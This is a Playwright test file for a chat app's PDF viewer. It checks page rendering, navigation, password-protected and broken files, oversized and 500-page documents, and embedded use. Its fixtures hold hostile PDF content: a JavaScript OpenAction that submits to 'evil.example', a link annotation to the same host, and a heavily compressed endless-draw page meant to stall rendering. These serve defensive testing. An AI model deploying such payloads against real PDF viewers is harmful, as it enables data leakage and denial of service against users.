import { deflateSync } from 'node:zlib';
import { type APIRequestContext, expect, type Locator, type Page, test } from '@playwright/test';
import { expectAccessible } from '../support/axe.ts';
import { type Customer, freshCustomer } from '../support/customer.ts';
import { embed, SHOP, signInWithin } from '../support/embedding.ts';
import { signUpConnected } from '../support/people.ts';

/** A PDF of these objects, by number from 1, the first of which is its catalogue. */
const pdfOf = (objects: string[], trailer = ''): Buffer => {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const start = text.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
};

/** Pages that are filled with a colour, as red, green and blue from 0 to 1. */
const pagesOf = (
  colours: readonly string[],
  { box = '0 0 300 400', catalogue = '', trailer = '', annotations = '' } = {},
): Buffer => {
  const pages = colours.map(
    (_, at) =>
      `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents ${at + 3 + colours.length} 0 R ${annotations}>>`,
  );
  const contents = colours.map((colour) => {
    const drawing = `${colour} rg 0 0 20000 20000 re f`;
    return `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`;
  });
  const kids = colours.map((_, at) => `${at + 3} 0 R`).join(' ');
  return pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalogue}>>`,
      `<< /Type /Pages /Kids [${kids}] /Count ${colours.length} >>`,
      ...pages,
      ...contents,
    ],
    trailer,
  );
};

const [RED, GREEN, BLUE] = ['1 0 0', '0 1 0', '0 0 1'] as const;
const SCRIPT =
  '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >> ';
const LINK =
  '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (https://evil.example/) >> >>] ';
const ENCRYPTED = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >> /ID [<00> <00>] `;

/** A page that is drawn for minutes: small marks without end, as a file of a few kilobytes. */
const endless = (): Buffer => {
  const drawing = deflateSync('0 0 1 rg 0 0 300 400 re f '.repeat(3_000_000), { level: 9 }).toString(
    'latin1',
  );
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R >>',
    `<< /Length ${drawing.length} /Filter /FlateDecode >>\nstream\n${drawing}\nendstream`,
  ]);
};

/** A file of a customer arrives. */
const arriving =
  (request: APIRequestContext, owner: string, customer: Customer) => async (name: string, bytes: Buffer) => {
    const uploaded = await request.post('/sandbox/telegram/files', {
      params: { name },
      data: bytes,
      headers: { 'content-type': 'application/pdf' },
    });
    const { id } = await uploaded.json();
    const from = { to: 'account', owner, from: customer };
    await request.post('/sandbox/telegram/messages', { data: { ...from, file: id } });
  };

/** The colour in the middle of a drawn page. */
const colourOf = (page: Page, selector: string) =>
  page.locator(selector).evaluate((canvas) => {
    if (!(canvas instanceof HTMLCanvasElement) || canvas.width === 0) return '';
    const data = canvas.getContext('2d')?.getImageData(canvas.width >> 1, canvas.height >> 2, 1, 1).data;
    return [...(data ?? [])].slice(0, 3).join();
  });

const openFrom = (place: Page | Locator, customer: Customer) =>
  place.getByRole('region', { name: 'Conversations' }).getByRole('link', { name: customer.name }).click();

// Specification 66.6, 66.7
test('a PDF shows its first page in the thread and all pages in the viewer, and a broken one says so', {
  tag: '@chat',
}, async ({ page }) => {
  const { email } = await signUpConnected(page.request);
  const customer = freshCustomer();
  const arrive = arriving(page.request, email, customer);
  const foreign: string[] = [];
  page.on('request', (request) => {
    const { hostname, protocol } = new URL(request.url());
    if (protocol.startsWith('http') && hostname !== 'localhost') foreign.push(request.url());
  });
  const faults: string[] = [];
  page.on('pageerror', (error) => faults.push(error.message));
  page.on('dialog', (dialog) => {
    faults.push(dialog.message());
    void dialog.dismiss();
  });
  await arrive('prices.pdf', pagesOf([RED, GREEN, BLUE], { catalogue: SCRIPT, annotations: LINK }));
  await arrive('secret.pdf', pagesOf([RED], { trailer: ENCRYPTED }));
  await arrive('torn.pdf', Buffer.from('%PDF-1.7\nnothing that can be read'));
  await arrive('huge.pdf', pagesOf([BLUE], { box: '0 0 14400 14400' }));

  await page.goto('/dashboard/chat');
  await openFrom(page, customer);
  const log = page.getByRole('log', { name: 'Messages' });
  const preview = (name: string) => log.getByRole('button', { name: `Enlarge: ${name}` });
  const viewer = page.getByRole('dialog');
  const sheet = 'dialog canvas[role="img"]';

  await test.step('the first page is in the thread', async () => {
    await preview('prices.pdf').scrollIntoViewIfNeeded();
    await expect(preview('prices.pdf')).toHaveAttribute('data-drawn');
    expect((await preview('prices.pdf').boundingBox())?.width).toBeGreaterThan(270);
    expect(await colourOf(page, 'button[aria-label="Enlarge: prices.pdf"] canvas')).toBe('255,0,0');
    await expectAccessible(page);
  });

  await test.step('keys turn the pages, and plus enlarges them', async () => {
    await preview('prices.pdf').click();
    await expect(viewer.getByRole('status')).toHaveText('Page 1 of 3');
    await expect.poll(() => colourOf(page, sheet)).toBe('255,0,0');
    await page.keyboard.press('ArrowRight');
    await expect.poll(() => colourOf(page, sheet)).toBe('0,255,0');
    await page.locator(sheet).click();
    expect(page.url()).toContain('/dashboard/chat');
    await page.keyboard.press('End');
    await expect(viewer.getByRole('status')).toHaveText('Page 3 of 3');
    await expect.poll(() => colourOf(page, sheet)).toBe('0,0,255');
    const width = async () => (await page.locator(sheet).boundingBox())?.width ?? 0;
    const before = await width();
    await page.keyboard.press('+');
    await expect.poll(width).toBeGreaterThan(before * 1.4);
    await expectAccessible(page);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      viewer.getByRole('button', { name: /^Download/ }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('prices.pdf');
    await page.keyboard.press('Escape');
    await expect(viewer).toHaveCount(0);
  });

  await test.step('one that is protected or torn says so, and can be saved', async () => {
    for (const [name, words] of [
      ['secret.pdf', 'protected by a password'],
      ['torn.pdf', 'cannot be shown'],
    ] as const) {
      await preview(name).scrollIntoViewIfNeeded();
      await expect(preview(name)).toContainText(words);
      await preview(name).click();
      await expect(viewer.getByRole('alert')).toContainText(words);
      await expect(viewer.getByRole('button', { name: /^Download/ })).toBeVisible();
      await page.keyboard.press('Escape');
      await expect(viewer).toHaveCount(0);
    }
  });

  await test.step('a page of any size costs no more than others, also on a phone', async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await preview('huge.pdf').click();
    await expect.poll(() => colourOf(page, sheet)).toBe('0,0,255');
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await page.keyboard.press('Escape');
    await expect(viewer).toHaveCount(0);
  });

  await test.step('what read the files has ended', async () => {
    await expect.poll(() => page.workers().length).toBe(0);
  });

  await test.step('no script ran, and nothing was fetched from elsewhere', async () => {
    expect([faults, foreign]).toEqual([[], []]);
  });
});

// Specification 66.7
test('a PDF that is drawn without end leaves the page usable, and the next one is drawn', {
  tag: '@chat',
}, async ({ page }) => {
  const { email } = await signUpConnected(page.request);
  const customer = freshCustomer();
  const arrive = arriving(page.request, email, customer);
  await arrive('endless.pdf', endless());
  await page.goto('/dashboard/chat');
  await openFrom(page, customer);
  const preview = (name: string) => page.getByRole('button', { name: `Enlarge: ${name}` });
  await preview('endless.pdf').click();
  const viewer = page.getByRole('dialog');
  await expect(viewer.getByRole('status')).toHaveText('Page 1 of 1');
  await page.keyboard.press('Escape');
  await expect(viewer).toHaveCount(0);
  await page.getByRole('textbox', { name: 'Message' }).fill('Thank you');
  await page.keyboard.press('Enter');
  await expect(page.getByRole('log', { name: 'Messages' }).getByText('Thank you')).toBeVisible();
  await expect(preview('endless.pdf')).toContainText('takes too long');
  await arrive('prices.pdf', pagesOf([RED]));
  await expect(preview('prices.pdf')).toHaveAttribute('data-drawn');
  await expect.poll(() => page.workers().length).toBe(0);
});

// Specification 66.7
test('a PDF of 500 pages shows any of them, and holds nothing after it was closed', {
  tag: '@chat',
}, async ({ page }) => {
  const { email } = await signUpConnected(page.request);
  const customer = freshCustomer();
  const colours = Array.from({ length: 500 }, (_, at) => (at === 499 ? BLUE : RED));
  await arriving(page.request, email, customer)('catalogue.pdf', pagesOf(colours));
  await page.goto('/dashboard/chat');
  await openFrom(page, customer);
  const preview = page.getByRole('button', { name: 'Enlarge: catalogue.pdf' });
  await expect(preview).toHaveAttribute('data-drawn');
  await preview.click();
  const viewer = page.getByRole('dialog');
  await expect(viewer.getByRole('status')).toHaveText('Page 1 of 500');
  for (const turned of Array.from({ length: 20 }, (_, at) => at + 2)) {
    await page.keyboard.press('PageDown');
    await expect(viewer.getByRole('status')).toHaveText(`Page ${turned} of 500`);
  }
  await page.keyboard.press('End');
  await expect.poll(() => colourOf(page, 'dialog canvas[role="img"]')).toBe('0,0,255');
  await page.keyboard.press('Escape');
  await expect(viewer).toHaveCount(0);
  await expect.poll(() => page.workers().length).toBe(0);
});

// Specification 66.8
test('in a foreign page a PDF says that it cannot be shown there, and can be saved', {
  tag: ['@embedding', '@chat'],
}, async ({ page, request }) => {
  const { email } = await signUpConnected(request);
  const customer = freshCustomer();
  await arriving(request, email, customer)('prices.pdf', pagesOf([RED]));
  await page.goto(`${SHOP}/plain.html`);
  const chat = await embed(page, { app: 'chat' });
  await signInWithin(chat, email);
  await openFrom(chat, customer);
  const file = chat.getByRole('button', { name: 'Enlarge: prices.pdf' });
  await expect(file).toContainText('cannot be shown on this page');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    chat.getByRole('button', { name: /^Download/ }).click(),
  ]);
  expect(download.suggestedFilename()).toBe('prices.pdf');
});
